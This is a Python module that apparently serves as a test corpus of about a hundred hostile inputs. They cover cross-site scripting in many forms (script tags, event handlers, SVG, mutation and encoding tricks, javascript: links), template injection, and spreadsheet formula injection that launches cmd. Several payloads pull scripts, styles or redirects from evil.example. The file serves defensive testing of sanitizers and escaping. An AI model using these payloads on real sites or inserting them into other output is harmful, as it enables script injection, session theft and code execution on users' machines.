"""A hundred strings that want to be more than text: in a page, in a mail, in a spreadsheet, in a terminal."""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "</script><script>alert(3)</script>",
    "<script src=//evil.example/4.js></script>",
    "<script type=module>import('//evil.example/5.js')</script>",
    "<script/x>alert(6)</script/x>",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
    "<!--><script>alert(8)</script-->",
    "--><script>alert(9)</script><!--",
    "]]><script>alert(10)</script>",
    "<noscript><p title='</noscript><script>alert(11)</script>'>",
    "<template><script>alert(12)</script></template>",
    "<script>alert(13)",
    "<script\x0b>alert(14)</script>",
]
HANDLERS = [
    "<img src=x onerror=alert(15)>",
    "<img/src=x/onerror=alert(16)>",
    "<img src=x onerror\n=\nalert(17)>",
    "<body onload=alert(18)>",
    "<input autofocus onfocus=alert(19)>",
    "<details open ontoggle=alert(20)>",
    "<video><source onerror=alert(21)></video>",
    "<marquee onstart=alert(22)>",
    "<a onmouseover=alert(23)>x</a>",
    "<p style=animation:x onanimationstart=alert(24)>",
    "<xss tabindex=1 autofocus onfocus=alert(25)>",
    "<p hx-get=/logout hx-trigger=load>26</p>",
    "<p hx-on:load=alert(27) data-hx-on::load=alert(27)>",
    "<p hx-vals='js:{a:alert(28)}'>",
]
BROKEN_OUT = [
    '"><script>alert(29)</script>',
    "'><script>alert(30)</script>",
    '" onfocus=alert(31) autofocus="',
    "' onfocus=alert(32) autofocus='",
    "x onfocus=alert(33) autofocus",
    "` onfocus=alert(34) `",
    "</textarea><img src=x onerror=alert(35)>",
    "</title><img src=x onerror=alert(36)>",
    "</option></select><img src=x onerror=alert(37)>",
    "</style><img src=x onerror=alert(38)>",
    "</td></table><form action=//evil.example>39",
    "</main></body></html><script>alert(40)</script>",
    '"></button><button formaction=javascript:alert(41)>',
]
DRAWINGS = [
    "<svg onload=alert(42)>",
    "<svg><script>alert(43)</script></svg>",
    "<svg><script xlink:href=data:,alert(44) /></svg>",
    "<svg><a xlink:href=javascript:alert(45)><text>x</text></a>",
    "<svg><animate onbegin=alert(46) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<svg><foreignObject><iframe/onload=alert(48)>",
    "<math><a href=javascript:alert(49)>x</a></math>",
    "<math><mtext><img src=x onerror=alert(50)></mtext></math>",
]
MUTATIONS = [
    "<svg></p><style><a id='</style><img src=x onerror=alert(51)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(52)>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(53)>",
    "<listing>&lt;img src=x onerror=alert(54)&gt;</listing>",
    "<xmp><img src=x onerror=alert(55)></xmp>",
    "<plaintext>56",
    "<p/title='`><img src=x onerror=alert(57)>`'>",
]
LINKS = [
    "javascript:alert(58)",
    "JaVaScRiPt:alert(59)",
    "java\tscript:alert(60)",
    "\x01javascript:alert(61)",
    "data:text/html,<script>alert(62)</script>",
    "vbscript:msgbox(63)",
    "[x](javascript:alert(64))",
    "![x](//evil.example/65.png)",
    "<javascript:alert(66)>",
    '[x]: javascript:alert(67) "x"',
    "[x](https://evil.example/ 'onclick=alert(68)')",
    "<a href=javascript&colon;alert(69)>x</a>",
    "<a href='https://evil.example/70' target=_blank>x</a>",
]
FRAMES = [
    "<iframe src=javascript:alert(71)>",
    "<iframe srcdoc='<script>parent.alert(72)</script>'>",
    "<object data=//evil.example/73.swf>",
    "<embed src=//evil.example/74.swf>",
    "<base href=//evil.example/75/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/76>",
    "<link rel=stylesheet href=//evil.example/77.css>",
]
STYLES = [
    "<style>@import '//evil.example/78.css';</style>",
    "<style>*{display:none}</style>79",
    "<p style=position:fixed;inset:0;background:url(//evil.example/80)>",
    "};*{background:url(//evil.example/81)}",
]
ENTITIES = [
    "&lt;script&gt;alert(82)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(83)&#62;",
    "&#x3c;svg/onload=alert(84)&#x3e;",
    "%3Cscript%3Ealert(85)%3C/script%3E",
    "\\u003cscript\\u003ealert(86)\\u003c/script\\u003e",
]
CHARACTERS = [
    "\uff1cscript\uff1ealert(87)\uff1c/script\uff1e",
    "\u02bcimg src=x onerror=alert(88)\u02bd",
    "<\u200bscript>alert(89)</\u200bscript>",
    "\u202e>tpircs/<)09(trela>tpircs<\u202c",
    "<\u017fcript>alert(91)</\u017fcript>",
]
TEMPLATES = [
    "{{ 7 * 13 }}{% raw %}",
    "{{ config }}{# 93 #}",
    "${alert(94)}`${94}`",
]
FORMULAS = [
    "=cmd|' /C calc'!A95",
    "@SUM(1+96)*cmd|' /C calc'!A0",
    "+97+cmd|' /C calc'!A0",
    "-98+cmd|' /C calc'!A0",
    "\t=99+1",
    '\r=HYPERLINK("//evil.example/100")',
]
HOSTILE = [
    *(SCRIPTS + HANDLERS + BROKEN_OUT + DRAWINGS + MUTATIONS + LINKS + FRAMES),
    *(STYLES + ENTITIES + CHARACTERS + TEMPLATES + FORMULAS),
]


def in_lines(characters: int) -> list[str]:
    """All of `HOSTILE`, as few lines as fit into fields of so many characters."""
    lines = [""]
    for text in HOSTILE:
        if len(lines[-1]) + len(text) >= characters:
            lines.append("")
        lines[-1] = f"{lines[-1]} {text}" if lines[-1] else text
    return lines
